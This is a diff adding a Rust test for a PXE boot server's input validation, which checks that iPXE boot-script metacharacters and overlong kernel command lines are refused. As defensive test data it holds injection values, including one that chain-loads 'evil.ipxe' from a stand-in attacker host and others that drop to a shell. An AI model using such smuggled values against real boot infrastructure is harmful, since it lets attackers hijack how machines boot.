@@ -610,3 +610,166 @@ fn metrics_count_requests_and_machines() {
         );
     }
 }
+
+/// `BOOTACTION` with `field` set to `value`.
+fn bootaction_with(field: &str, value: &str) -> String {
+    let mut v: serde_json::Value = serde_json::from_str(BOOTACTION).unwrap();
+    v[field] = value.into();
+    v.to_string()
+}
+
+/// Kernel arguments of `n` bytes: words of 250 characters.
+fn long_append(n: usize) -> String {
+    let word = "a".repeat(249);
+    let mut s = String::new();
+    while s.len() + 250 <= n {
+        s.push_str(&word);
+        s.push(' ');
+    }
+    s.push_str(&"b".repeat(n - s.len()));
+    s
+}
+
+#[test]
+fn boot_lines_refuse_script_breakers_and_overlong_kernel_lines() {
+    let dir = tempdir("bootline");
+    let g = Gopxe::start(&dir, &["--advertise-addr", "10.1.20.2"]);
+
+    // Boot-script metacharacters from the admin: 400 naming the field and
+    // the sequence, and nothing stored.
+    for (field, value, seq) in [
+        (
+            "menu",
+            "x ; chain http://198.51.100.9/evil.ipxe ; echo",
+            "\";\"",
+        ),
+        ("append", "console=ttyS0 || shell", "\"||\""),
+        (
+            "append",
+            "console=ttyS0 # ks=http://198.51.100.9/ks",
+            "\"#\"",
+        ),
+        ("append", "ip=${net0/ip}", "\"${\""),
+        ("ip", "dhcp&&shell", "\"&&\""),
+        // Tokens allow letters, digits and `._-` only, and say so.
+        ("label", "linux;x", "';'"),
+    ] {
+        let r = g.post("/bootaction/evil", &bootaction_with(field, value));
+        let v = r.json();
+        assert_eq!((r.status, v["field"].as_str()), (400, Some(field)), "{v}");
+        let error = v["error"].as_str().unwrap();
+        assert!(error.contains(seq), "{error}");
+    }
+    // 15 KB of arguments: refused, not cut.
+    let r = g.post(
+        "/bootaction/evil",
+        &bootaction_with("append", &long_append(15 * 1024)),
+    );
+    assert_eq!(
+        (r.status, r.json()["field"].as_str()),
+        (400, Some("append"))
+    );
+    assert_eq!(g.get("/bootaction/evil").status, 404);
+
+    // An action whose arguments leave room for a short hostname only.
+    let action = bootaction_with("append", &long_append(1650));
+    assert_eq!(g.post("/bootaction/vmtemplate", &action).status, 201);
+    assert_eq!(g.post("/pxeboot", NETWORK_RECORD).status, 201);
+    let cfg = g.get(&format!("/pxelinux/{UUID}")).text();
+    assert!(cfg.trim_end().ends_with("&ns2=8.8.4.4"), "{cfg}");
+    // A 253-byte hostname would push `ks=` past the kernel's 2048 bytes:
+    // refused naming the hostname, the stored record unchanged ...
+    let label = "h".repeat(63);
+    let long_host = format!("{label}.{label}.{label}.{}", "h".repeat(61));
+    assert_eq!(long_host.len(), 253);
+    let r = g.post(
+        "/pxeboot",
+        &NETWORK_RECORD.replace("test-myvm1.local", &long_host),
+    );
+    let v = r.json();
+    assert_eq!(
+        (r.status, v["field"].as_str()),
+        (400, Some("hostname")),
+        "{v}"
+    );
+    let error = v["error"].as_str().unwrap();
+    assert!(
+        error.contains("the kernel command line") && error.contains("at most 2047"),
+        "{error}"
+    );
+    assert_eq!(
+        g.get(&format!("/pxeboot/{UUID}")).json()["hostname"],
+        "test-myvm1.local"
+    );
+    assert_eq!(g.get(&format!("/pxelinux/{UUID}")).text(), cfg);
+    // ... and a new machine with it is not stored at all.
+    let other = NETWORK_RECORD
+        .replace("test-myvm1.local", &long_host)
+        .replace(
+            &format!("\"uuid\": \"{UUID}\""),
+            "\"mac\": \"52:54:00:12:34:56\"",
+        );
+    let r = g.post("/pxeboot", &other);
+    assert_eq!(
+        (r.status, r.json()["field"].as_str()),
+        (400, Some("hostname"))
+    );
+    assert_eq!(g.get("/pxeboot/52:54:00:12:34:56").status, 404);
+    // Lengthening the action past the limit for the stored machine is
+    // refused naming `append` and the machine; the action is unchanged.
+    let r = g.post(
+        "/bootaction/vmtemplate",
+        &bootaction_with("append", &long_append(1900)),
+    );
+    let v = r.json();
+    assert_eq!(
+        (r.status, v["field"].as_str()),
+        (400, Some("append")),
+        "{v}"
+    );
+    assert!(v["error"].as_str().unwrap().contains(UUID), "{v}");
+    assert_eq!(
+        g.get("/bootaction/vmtemplate").json()["append"]
+            .as_str()
+            .map(str::len),
+        Some(1650)
+    );
+    assert_eq!(g.get(&format!("/pxelinux/{UUID}")).text(), cfg);
+
+    // What the admin may write never ends an iPXE command, starts a
+    // comment or expands a setting; gopxe's own `ds=nocloud-net;s=...`
+    // stays inside one word.
+    let ubuntu = r#"{"menu": "Ubuntu | autoinstall $5", "kernel": "ubuntu/vmlinuz",
+        "initrd": "ubuntu/initrd", "installer": "autoinstall",
+        "append": "--- console=ttyS0,115200n8 a|b x&y"}"#;
+    assert_eq!(g.post("/bootaction/ubuntu", ubuntu).status, 201);
+    let record = NETWORK_RECORD.replace("vmtemplate", "ubuntu").replace(
+        &format!("\"uuid\": \"{UUID}\""),
+        "\"mac\": \"52:54:00:12:34:57\"",
+    );
+    assert_eq!(g.post("/pxeboot", &record).status, 201);
+    for query in [
+        format!("uuid={UUID}&mac=52:54:00:00:00:01"),
+        "mac=52:54:00:12:34:57".to_string(),
+    ] {
+        let script = g.get(&format!("/boot.ipxe?{query}")).text();
+        assert!(script.starts_with("#!ipxe\n"), "{script}");
+        assert!(!script.contains("${"), "{script}");
+        for word in script.lines().skip(1).flat_map(str::split_whitespace) {
+            assert!(
+                !matches!(word, ";" | "&&" | "||") && !word.starts_with('#'),
+                "{word:?} in {script}"
+            );
+        }
+        assert!(script.contains("\nkernel http://10.1.20.2:"), "{script}");
+    }
+    let script = g.get("/boot.ipxe?mac=52:54:00:12:34:57").text();
+    assert!(
+        script.contains(" ds=nocloud-net;s=http://10.1.20.2:"),
+        "{script}"
+    );
+    assert!(
+        script.contains("echo gopxe: Ubuntu | autoinstall $5\n"),
+        "{script}"
+    );
+}
